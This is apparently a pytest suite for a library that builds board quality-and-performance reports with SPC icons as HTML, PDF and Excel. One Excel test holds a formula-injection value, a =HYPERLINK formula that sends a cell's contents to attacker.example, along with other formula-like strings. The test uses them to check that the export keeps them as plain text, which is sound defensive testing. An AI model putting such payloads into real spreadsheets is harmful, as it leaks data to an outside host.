"""The board report: icons exactly the engine's, domains in order, HTML/PDF/Excel outputs."""

import io
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from qijourney.reports import build_report
from qijourney.reports.excel import to_xlsx
from qijourney.reports.html import to_html
from qijourney.reports.pdf import to_pdf
from qijourney.spc import analyse
from tests.pdf_text import pdf_text

DOMAINS = ["Caring", "People", "Safe", "Well-led", "Effective", "Responsive", "Use of resources"]


@pytest.fixture(scope="module")
def metrics() -> pd.DataFrame:
    """24 metrics, 36 months, with shifts, trends, outliers, targets and a short series."""
    rng = np.random.default_rng(11)
    parts = []
    for i in range(24):
        n = 8 if i == 23 else 36
        y = rng.normal(50, 4, n)
        if i % 4 == 1:
            y[n // 2 :] += 9
        if i % 4 == 2:
            y[-7:] += np.arange(7) * 3
        if i % 5 == 3:
            y[-1] += 30
        parts.append(
            pd.DataFrame(
                {
                    "metric": f"Metric {i:02d}",
                    "month": pd.date_range("2023-04-01", periods=n, freq="MS"),
                    "value": y,
                    "direction": ["increase", "decrease", "neutral"][i % 3],
                    "target": [40.0, 50.0, 60.0, np.nan][i % 4],
                    "domain": DOMAINS[i % len(DOMAINS)],
                }
            )
        )
    return pd.concat(parts, ignore_index=True)


OPTIONS = dict(
    series=["metric"],
    date="month",
    value="value",
    improvement_column="direction",
    target_column="target",
    domain_column="domain",
)


def test_icons_are_the_engines_for_every_metric(metrics):
    report = build_report(metrics, **OPTIONS)
    engine = analyse(
        metrics,
        value="value",
        date="month",
        series="metric",
        improvement_column="direction",
        target_column="target",
    ).summary
    by_name = {row.name: row for row in report.rows}
    assert len(by_name) == len(engine) == 24
    for record in engine.to_dict(orient="records"):
        row = by_name[record["metric"]]
        assert row.variation == record["variation_icon"]
        assert row.assurance == record["assurance_icon"]
        assert row.centre == pytest.approx(record["centre"], nan_ok=True)
        assert row.upper == pytest.approx(record["upper_limit"], nan_ok=True)
    assert sum(sum(counts) for _, counts in report.grid()) == 24


def test_domains_in_board_order(metrics):
    report = build_report(metrics, **OPTIONS)
    assert [d for d, _ in report.domains] == [
        "Safe",
        "Effective",
        "Caring",
        "Responsive",
        "Well-led",
        "People",
        "Use of resources",
    ]


def test_short_series_has_no_icons_and_says_why(metrics):
    report = build_report(metrics, **OPTIONS)
    short = next(r for r in report.rows if r.name == "Metric 23")
    assert short.variation == "" and short.assurance == ""
    assert "Fewer than 13 points" in short.warning


def test_html_is_self_contained_and_accessible(metrics):
    page = to_html(build_report(metrics, **OPTIONS))
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en-GB">' in page
    assert not re.search(r"(src|href)=\"https?://", page)
    assert "Common cause variation" in page
    assert page.count('data-chart-spec="metric-') == 24  # every metric with data has a chart
    assert "<title>Small chart of Metric 00</title>" in page
    assert '<script type="module">' in page


def test_pdf_is_a4_landscape_with_contents(metrics):
    pdf = to_pdf(build_report(metrics, with_charts=False, **OPTIONS))
    assert pdf.startswith(b"%PDF")
    assert re.search(rb"/MediaBox \[\s*0 0 841\.8\d* 595\.27\d*\s*\]", pdf)
    assert len(re.findall(rb"/Type /Page\b", pdf)) >= 5
    assert b"/Title (Integrated quality and performance report)" in pdf


def test_excel_table(metrics):
    book = load_workbook(io.BytesIO(to_xlsx(build_report(metrics, with_charts=False, **OPTIONS))))
    sheet = book["Report"]
    header = [c.value for c in sheet[4]]
    assert header[:4] == ["Domain", "Metric", "Latest period", "Latest value"]
    assert sheet.max_row == 4 + 24
    variations = {sheet.cell(row=r, column=9).value for r in range(5, sheet.max_row + 1)}
    assert "Common cause" in variations
    assert book["Summary"]["A1"].value.startswith("Variation")


@pytest.mark.parametrize("suffix", [".html", ".pdf", ".xlsx"])
def test_cli_writes_each_format(metrics, tmp_path, suffix):
    source = tmp_path / "ipr.csv"
    metrics.to_csv(source, index=False)
    out = tmp_path / f"board{suffix}"
    command = [
        str(Path(sys.executable).with_name("qijourney")),
        "report",
        str(source),
        "--value",
        "value",
        "--date",
        "month",
        "--series",
        "metric",
        "--improvement-column",
        "direction",
        "--target-column",
        "target",
        "--domain-column",
        "domain",
        "--out",
        str(out),
    ]
    result = subprocess.run(
        command, capture_output=True, text=True, timeout=300, env=dict(os.environ)
    )
    assert result.returncode == 0, result.stderr
    assert out.stat().st_size > 1000
    assert "24 metrics in 7 domain(s)" in result.stderr


def test_cli_bad_input_writes_nothing(tmp_path):
    source = tmp_path / "ipr.csv"
    source.write_text("metric,month,value\nA,2025-01-01,3\nA,2025-02-01,x\n")
    out = tmp_path / "board.pdf"
    command = [
        str(Path(sys.executable).with_name("qijourney")),
        "report",
        str(source),
        "--value",
        "value",
        "--date",
        "month",
        "--series",
        "metric",
        "--out",
        str(out),
    ]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert result.returncode == 2 and "row 2" in result.stderr
    assert not out.exists()


def test_names_with_markup_characters_print_as_written(metrics):
    awkward = metrics.replace(
        {"metric": {"Metric 00": "R&D <b>studies", "Metric 01": "A&E <4 hours"}}
    ).replace({"domain": {"Safe": "Safe & <i>sound"}})
    pdf = to_pdf(build_report(awkward, title="Board <report> & more", **OPTIONS))
    text = pdf_text(pdf)
    for written in ("R&D <b>studies", "A&E <4 hours", "Safe & <i>sound", "Board <report> & more"):
        assert written in text, written


def run_report(source: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    command = [str(Path(sys.executable).with_name("qijourney")), "report", str(source)]
    command += ["--value", "value", "--date", "month", "--series", "metric"]
    command += ["--domain-column", "domain", "--out", str(out), *extra]
    return subprocess.run(command, capture_output=True, text=True, timeout=300)


def test_cli_excel_keeps_text_as_text(metrics, tmp_path):
    from tests.workbook import filled_cells, run_on_opening

    names = {
        "Metric 00": '=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")',
        "Metric 01": "@SUM(1+1)",
        "Metric 02": "#N/A in name",
        "Metric 03": "Falls\x0bper day",
    }
    awkward = metrics.replace({"metric": names, "domain": {"Safe": "-Safe"}})
    source = tmp_path / "ipr.csv"
    awkward.to_csv(source, index=False)
    out = tmp_path / "board.xlsx"
    result = run_report(source, out, "--title", "=1+1 board")
    assert result.returncode == 0, result.stderr
    cells = filled_cells(out)
    assert run_on_opening(cells) == []
    text = {c.value for c in cells if c.data_type == "s"}
    shown = {n.replace("\x0b", "\ufffd") for n in names.values()}
    assert shown | {"-Safe", "=1+1 board"} <= text


LONG = {n: " ".join(f"w{i:05d}" for i in range(n // 7)) for n in (3_000, 30_000)}


def printed_words(text: str) -> set[str]:
    return set(re.findall(r"w\d{5}", text))


@pytest.mark.parametrize("length", sorted(LONG))
def test_pdf_prints_very_long_names_in_full(metrics, length):
    long = LONG[length]
    awkward = metrics.replace({"metric": {"Metric 00": long}, "domain": {"Caring": long}})
    pdf = to_pdf(build_report(awkward, title=f"Board {long}", with_charts=True, **OPTIONS))
    text = pdf_text(pdf)
    assert printed_words(text) == printed_words(long)
    assert "Metric 23" in text  # the rest of the report is still there


def test_cli_pdf_with_a_very_long_metric_name(metrics, tmp_path):
    awkward = metrics.replace({"metric": {"Metric 00": LONG[30_000]}})
    source = tmp_path / "ipr.csv"
    awkward.to_csv(source, index=False)
    out = tmp_path / "board.pdf"
    result = run_report(source, out)
    assert result.returncode == 0, result.stderr
    assert printed_words(pdf_text(out.read_bytes())) == printed_words(LONG[30_000])


def test_pdf_prints_control_characters_and_stray_markup():
    frame = pd.DataFrame(
        {
            "metric": ["Falls\x0bper day"] * 15 + ["<b>unclosed & <font"] * 15,
            "month": list(pd.date_range("2024-01-01", periods=15, freq="MS")) * 2,
            "value": np.arange(30.0) % 4,
            "domain": ["Safe\x00ty"] * 30,
        }
    )
    options = dict(series=["metric"], date="month", value="value", domain_column="domain")
    text = pdf_text(to_pdf(build_report(frame, title="Board\x1b report", **options)))
    assert "<b>unclosed & <font" in text
    for before, after in (("Falls", "per day"), ("Safe", "ty"), ("Board", " report")):
        assert re.search(f"{before}.{after}", text), before
